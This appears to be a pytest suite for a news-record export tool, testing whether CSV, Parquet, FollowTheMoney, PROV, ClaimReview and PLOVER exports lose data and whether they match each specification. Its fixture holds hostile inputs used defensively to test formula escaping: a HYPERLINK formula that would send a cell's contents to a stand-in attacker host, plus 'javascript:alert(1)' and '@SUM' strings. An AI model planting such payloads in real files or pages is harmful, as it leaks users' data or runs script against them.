"""The formats of the field: each held against the library that reads it, each loss against what it says."""

from __future__ import annotations

import csv
import importlib.util
import io
import json
import random
import re
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from onrecord import exports, services
from onrecord.briefing.formats import FORMATS, TABLES, TABLES_OUT, Bundle, cells, claims, frames, ftm, plover, prov
from onrecord.briefing.formats.columns import flat, flat_columns, unflat
from onrecord.ledger import Ledger
from onrecord.model import DateRange, Fact, Position, Report, Span, digest
from onrecord.model.records import position_from_record, report_from_record
from onrecord.settings import Settings
from onrecord.undertakings import task_records

WEB = Path(__file__).parents[1] / "web"
FIELDS = (
    "id date time enddate endtime source target event eventLoc eventText quadCode eventScale mode context dead "
    "injured size link text citation url language publication license copyright textInfo coder version codebook "
    "dateCoded comment"
)
"""Of the table "PLOVER JSON" in the manual."""
TEXT = st.text(st.characters(exclude_categories=["Cs"]))
HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"more")'


def beside(name: str):
    spec = importlib.util.spec_from_file_location(f"formats_{name}", WEB / f"{name}.py")
    assert spec
    assert spec.loader
    made = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(made)
    return made


@pytest.fixture(scope="module")
def bundle() -> Bundle:
    """The small record of the desk's tests, with a report and a position that are hostile, and two facts."""
    small = beside("small_record")
    settings = Settings(ledger=":memory:", clock=lambda: small.NOW)
    with Ledger.open(":memory:", clock=settings.clock) as ledger:
        small.fill(ledger)
        text = f"{HOSTILE} said Norway\u202e will not come.\r\nNor will 'others', it said, by 69 per cent."
        report = Report(
            "a b/ü",
            text,
            digest(text),
            "@SUM(1)",
            "javascript:alert(1)",
            "-1+1",
            DateRange(date(2026, 3, 1), date(2026, 3, 31)),
        )
        position = Position(
            "a b/ü.p0",
            report.id,
            "NOR",
            "group:others",
            "host",
            "opposes",
            Span(0, len(text), text),
            matter=None,
            confidence=0.5,
        )
        at = text.index("69")
        facts = [
            Fact(
                "f0",
                report.id,
                "share",
                Span(at, at + 11, "69 per cent"),
                Span(0, len(text), text),
                low=69.0,
                high=69.0,
                unit="per cent",
            ),
            Fact(
                "f1",
                report.id,
                "talks",
                Span(at, at + 2, "69"),
                Span(0, len(text), text),
                period=DateRange.on(date(2026, 1, 1)),
            ),
        ]
        ledger.add(report, [], [position], extractor="by hand 1", facts=facts)
        made = exports.bundle_of(services.answer(ledger, settings))
        # To a vocabulary that knows one task alone, the others are tasks found in the reports.
        return replace(made, tasks=tuple(task_records(made.positions, {"fund": None}, None)))


def content(bundle: Bundle, name: str) -> dict[str, bytes]:
    return {file: b"".join(made()) for file, made in FORMATS[name].files(bundle).items()}


def lines(text: bytes) -> list[dict]:
    return [json.loads(x) for x in text.decode().splitlines()]


@pytest.mark.parametrize("table", TABLES_OUT)
class TestTables:
    def test_the_columns_are_those_of_the_records(self, bundle, table):
        records = list(bundle.records(table))
        assert records
        for record in records:
            _same_shape(TABLES[table], record)

    def test_json_lines_hold_all(self, bundle, table):
        assert lines(content(bundle, "jsonl")[f"{table}.jsonl"]) == list(bundle.records(table))

    def test_csv_goes_round_without_loss(self, bundle, table):
        text = content(bundle, "csv")[f"{table}.csv"].decode()
        assert list(cells.csv_records(TABLES[table], text)) == list(bundle.records(table))

    def test_no_cell_of_a_csv_begins_a_formula(self, bundle, table):
        rows = list(csv.reader(io.StringIO(content(bundle, "csv")[f"{table}.csv"].decode(), newline="")))
        numbers = {n for n, (_, kind) in enumerate(flat_columns(TABLES[table])) if kind in ("number", "whole")}
        for row in rows[1:]:
            for n, cell in enumerate(row):
                assert n in numbers or not cell.lstrip().startswith(tuple(cells.STARTS)), cell

    def test_parquet_goes_round_without_loss(self, bundle, table):
        pl = pytest.importorskip("polars")
        made = pl.read_parquet(io.BytesIO(content(bundle, "parquet")[f"{table}.parquet"]))
        assert frames.records_of(TABLES[table], made) == list(bundle.records(table))

    def test_parquet_is_read_by_another_library(self, bundle, table):
        pq = pytest.importorskip("pyarrow.parquet")
        made = pq.read_table(io.BytesIO(content(bundle, "parquet")[f"{table}.parquet"]))
        assert made.column_names == list(TABLES[table].fields)
        first = next(iter(TABLES[table].fields))
        assert made.column(first).to_pylist() == [r[first] for r in bundle.records(table)]

    def test_an_empty_table_keeps_its_columns(self, bundle, table):
        pytest.importorskip("polars")
        empty = frames.frame(TABLES[table], [])
        assert empty.schema == frames.frame(TABLES[table], bundle.records(table)).schema


def _same_shape(kind, value):
    if value is None:
        return
    if hasattr(kind, "fields"):
        assert set(kind.fields) == set(value), set(kind.fields) ^ set(value)
        for name, one in kind.fields.items():
            _same_shape(one, value[name])
    elif hasattr(kind, "of"):
        assert isinstance(value, list)
        for one in value:
            _same_shape(kind.of, one)
    else:
        fits = {"text": str, "whole": int, "number": (int, float), "truth": bool, "day": str}[kind]
        assert isinstance(value, fits), (kind, value)


def test_the_nouns_come_back_from_csv(bundle):
    told = content(bundle, "csv")
    reports = cells.csv_records(TABLES["reports"], told["reports.csv"].decode())
    positions = cells.csv_records(TABLES["positions"], told["positions.csv"].decode())
    assert tuple(map(report_from_record, reports)) == bundle.reports
    assert tuple(map(position_from_record, positions)) == bundle.positions


@given(TEXT)
def test_any_text_is_safe_in_a_cell_and_comes_back(text):
    cell = cells.safe(text)
    assert cells.unsafe(cell) == text
    assert cell
    assert not cell.lstrip().startswith(tuple("=+-@\t\r"))


@given(st.lists(st.fixed_dictionaries({"id": TEXT, "outlet": st.none() | TEXT})))
def test_any_record_goes_through_csv(told):
    blank = unflat(TABLES["reports"], iter([None] * len(list(flat_columns(TABLES["reports"]))))) or {}
    empty = dict.fromkeys(TABLES["reports"].fields) | blank | {"upstream": []}
    records = [{**empty, **x} for x in told]
    assert list(flat(TABLES["reports"], None)).count(None) == len(list(flat_columns(TABLES["reports"])))
    text = "".join(cells.csv_lines(TABLES["reports"], records))
    assert list(cells.csv_records(TABLES["reports"], text)) == records


FTM_MODEL = {
    "Article": {
        "title": "string", "publishedAt": "date", "sourceUrl": "url", "publisher": "string", "bodyText": "text",
        "notes": "text",
    },
    "Event": {
        "name": "name", "summary": "text", "date": "date", "startDate": "date", "endDate": "date",
        "involved": "entity", "proof": "entity", "sourceUrl": "url", "publisher": "string", "description": "text",
        "notes": "text", "keywords": "string", "recordId": "string",
    },
    "PublicBody": {"name": "name", "country": "country"},
    "Organization": {"name": "name"},
}  # fmt: skip
"""The part of FollowTheMoney's documented model that is written, with the types of the properties."""

FTM_FORMS = {
    "date": r"\d{4}-\d{2}-\d{2}",
    "url": r"https?://\S+",
    "country": r"[a-z]{2}",
    "entity": r"onrecord-(actor|report|position)-[A-Za-z0-9._-]+",
}


def test_follow_the_money_by_its_documented_model(bundle):
    """Where the library is not installed, too: it needs a compiler and ICU."""
    made = lines(content(bundle, "ftm")["statements.ftm.json"])
    names = {x["entity_id"] for x in made}
    for one in made:
        assert one["value"]
        assert one["canonical_id"] == one["entity_id"]
        if one["prop"] != "id":
            kind = FTM_MODEL[one["schema"]][one["prop"]]
            assert re.fullmatch(FTM_FORMS.get(kind, r"(?s).+"), one["value"]), one
            assert kind != "entity" or one["value"] in names
    assert len({x["id"] for x in made}) == len(made)


class TestFollowTheMoney:
    @pytest.fixture
    def ftm_library(self):
        return pytest.importorskip("followthemoney")

    def test_the_library_reads_every_statement_and_knows_its_property(self, bundle, ftm_library):
        from followthemoney import model
        from followthemoney.statement import read_statements

        raw = content(bundle, "ftm")["statements.ftm.json"]
        read = list(read_statements(io.BytesIO(raw), "json"))
        assert len(read) == len(lines(raw)) > 50
        for one, record in zip(read, lines(raw), strict=True):
            if one.prop != "id":
                prop = model.get(one.schema).get(one.prop)
                assert prop is not None, (one.schema, one.prop)
                assert not prop.stub
                assert prop.type.validate(one.value), (one.prop, one.value)
                assert prop.type.clean(one.value) == one.value or prop.type.name in ("name", "text", "string", "url")
            assert one.generate_key() == record["id"]

    def test_the_model_is_as_documented(self, ftm_library):
        from followthemoney import model

        for schema, props in FTM_MODEL.items():
            assert props == {name: model.get(schema).get(name).type.name for name in props}

    def test_it_makes_whole_entities_of_them(self, bundle, ftm_library):
        from followthemoney import Dataset
        from followthemoney.statement import StatementEntity, read_statements

        raw = content(bundle, "ftm")["statements.ftm.json"]
        by_entity: dict[str, list] = {}
        for one in read_statements(io.BytesIO(raw), "json"):
            by_entity.setdefault(one.canonical_id, []).append(one)
        order = [r["canonical_id"] for r in lines(raw)]
        assert [k for n, k in enumerate(order) if n == 0 or order[n - 1] != k] == list(by_entity)
        dataset = Dataset({"name": "onrecord", "title": "onrecord"})
        made = {k: StatementEntity.from_statements(dataset, v) for k, v in by_entity.items()}
        schemata = [e.schema.name for e in made.values()]
        assert schemata.count("Article") == len(bundle.reports)
        assert schemata.count("Event") == len(bundle.positions)
        italy = made["onrecord-actor-ITA"]
        assert (italy.caption, italy.first("country")) == ("Italy", "it")
        for entity in made.values():
            # The statement of its identity is the one that the library would write.
            (own,) = (s for s in by_entity[entity.id] if s.prop == "id")
            assert own.value == next(s.value for s in entity.statements if s.prop == "id")
            for prop in entity.iterprops():
                if prop.type.name == "entity":
                    assert set(entity.get(prop)) <= set(made), "a name that leads nowhere"
                    for other in entity.get(prop):
                        assert made[other].schema.is_a(prop.range), (prop.name, made[other].schema.name)


@pytest.mark.filterwarnings("ignore::DeprecationWarning")
class TestProv:
    @pytest.fixture
    def graph(self, bundle):
        rdflib = pytest.importorskip("rdflib")
        return rdflib.Graph().parse(data=content(bundle, "prov")["prov.jsonld"], format="json-ld")

    def test_every_prov_term_is_one_of_the_ontology(self, graph):
        from rdflib.namespace import PROV

        used = {t for triple in graph for t in triple[1:] if str(t).startswith(str(PROV))}
        assert len(used) > 10
        assert all(t in PROV for t in used), [t for t in used if t not in PROV]

    def test_what_it_is_derived_from_is_there(self, graph, bundle):
        from rdflib.namespace import PROV, RDF

        entities = set(graph.subjects(RDF.type, PROV.Entity))
        assert len(entities) == sum(
            map(len, (bundle.reports, bundle.statements, bundle.positions, bundle.standings, bundle.conflicts))
        )
        for relation in (PROV.wasDerivedFrom, PROV.wasQuotedFrom, PROV.used):
            assert set(graph.objects(None, relation)) <= entities
        assert set(graph.objects(None, PROV.wasGeneratedBy)) <= set(graph.subjects(RDF.type, PROV.Activity))
        agents = set(graph.subjects(RDF.type, PROV.Agent))
        for relation in (PROV.wasAttributedTo, PROV.wasAssociatedWith, PROV.actedOnBehalfOf):
            assert set(graph.objects(None, relation)) <= agents

    def test_from_a_standing_to_the_words(self, graph, bundle):
        asked = """
            PREFIX prov: <http://www.w3.org/ns/prov#> PREFIX oa: <http://www.w3.org/ns/oa#>
            PREFIX onr: <urn:onrecord:term:> PREFIX rdfs: <http://www.w3.org/2000/01/rdf-schema#>
            SELECT ?words ?start ?end ?report WHERE {
              ?standing onr:state ?state ; prov:wasDerivedFrom ?position ; onr:holder [rdfs:label "Azerbaijan"] .
              ?position onr:evidence [oa:hasSource ?report ;
                oa:hasSelector [oa:exact ?words], [oa:start ?start ; oa:end ?end]] }"""
        (row,) = graph.query(asked)
        text = bundle.report["gazette-baku"].text
        assert str(row.report) == "urn:onrecord:report:gazette-baku"
        assert text[int(row.start) : int(row.end)] == str(row.words)

    @pytest.mark.filterwarnings("ignore::UserWarning", "ignore::DeprecationWarning")
    def test_the_prov_library_reads_it(self, graph):
        model = pytest.importorskip("prov.model")
        read = model.ProvDocument.deserialize
        document = read(content=graph.serialize(format="turtle"), format="rdf", rdf_format="turtle")
        kinds = {type(r).__name__ for r in document.flattened().get_records()}
        assert {f"Prov{x}" for x in ("Entity", "Activity", "Agent", "Derivation", "Generation", "Attribution")} <= kinds


@pytest.mark.filterwarnings("ignore::DeprecationWarning")
class TestSchemaOrg:
    def test_every_term_is_one_of_schema_org(self, bundle):
        rdflib = pytest.importorskip("rdflib")
        from rdflib.namespace import RDF, SDO

        graph = rdflib.Graph().parse(data=content(bundle, "claimreview")["claims.jsonld"], format="json-ld")
        used = {p for p in graph.predicates() if p != RDF.type} | set(graph.objects(None, RDF.type))
        assert len(used) > 15
        assert all(t in SDO for t in used), [t for t in used if t not in SDO]
        assert len(set(graph.subjects(RDF.type, SDO.Claim))) == len(bundle.positions)

    def test_what_a_review_must_have(self, bundle):
        made = claims.claim_document(bundle)["@graph"]
        reviews = [x for x in made if x["@type"] == "ClaimReview"]
        names = {x.get("@id") for x in made}
        assert len(reviews) == len(bundle.standings)
        for review in reviews:
            assert {"claimReviewed", "author", "datePublished", "reviewRating", "itemReviewed"} <= set(review)
            assert {x["@id"] for x in review["itemReviewed"]} <= names
            rating = review["reviewRating"]
            assert rating["worstRating"] <= rating.get("ratingValue", 0) <= rating["bestRating"]
            assert rating["alternateName"]


class TestPlover:
    def test_what_is_an_event_and_what_is_none(self, bundle):
        made = {e["id"]: e for e in plover.plover_events(bundle)}
        assert made["wire-jakarta.p0"]["event"] == "AGREE"
        assert (made["gazette-baku.p0"]["event"], made["gazette-baku.p0"]["mode"]) == ("REJECT", ["assist"])
        assert made["wire-jakarta.p1"]["event"] == "REQUEST"
        assert made["wire-jakarta.p1"]["target"][0]["code"] == "EGY"
        assert "harbour-rafah.p0" not in made, "considering is a comment, and PLOVER has none"

    def test_every_event_fits_the_specification(self, bundle):
        text = {r.id: r.text for r in bundle.reports}
        fields = set(re.split(r"\W+", FIELDS))
        for event in plover.plover_events(bundle):
            assert set(event) <= fields
            assert {"id", "date", "source", "event"} <= set(event)
            assert event["event"] in plover.QUADS
            assert event["date"] <= event["enddate"]
            for actor in [*event["source"], *event.get("target", [])]:
                assert set(actor) <= {"code", "sector", "identifier", "actorText"}
                assert len(actor.get("code", "ABC")) == 3
            where = event["textInfo"]
            assert text[event["citation"]][where["start"] : where["end"]] == event["text"]

    def test_every_stance_is_coded_or_told_to_be_lost(self):
        from onrecord.vocabulary import load

        vocabulary = load()
        for stance in vocabulary.stances.values():
            codes = {plover.coded(stance.id, task) for task in vocabulary.tasks}
            if codes == {None}:
                words = {"named": "named", "no_comment": "no comment", "denied": "denial"}
                assert words.get(stance.id, stance.id) in plover.LOST
            else:
                assert None not in codes
                assert all(c.event in plover.QUADS for c in codes)
                assert all((c.event in ("REJECT", "SANCTION")) == (stance.polarity == "against") for c in codes)


def test_each_format_says_what_it_loses():
    assert {name for name, one in FORMATS.items() if not one.lost} == {"jsonl", "csv", "parquet"}
    for module in (ftm, prov, claims, plover):
        assert "eft out" in module.LOST or "lost" in module.LOST


def test_the_order_of_rows_does_not_change_an_export(bundle):
    mixed = list(bundle.positions)
    random.Random(3).shuffle(mixed)
    other = Bundle(**{**{f: getattr(bundle, f) for f in bundle.__dataclass_fields__}, "positions": tuple(mixed)})
    for name in ("ftm", "plover"):
        (one,), (two,) = content(bundle, name).values(), content(other, name).values()
        assert sorted(one.splitlines()) == sorted(two.splitlines())
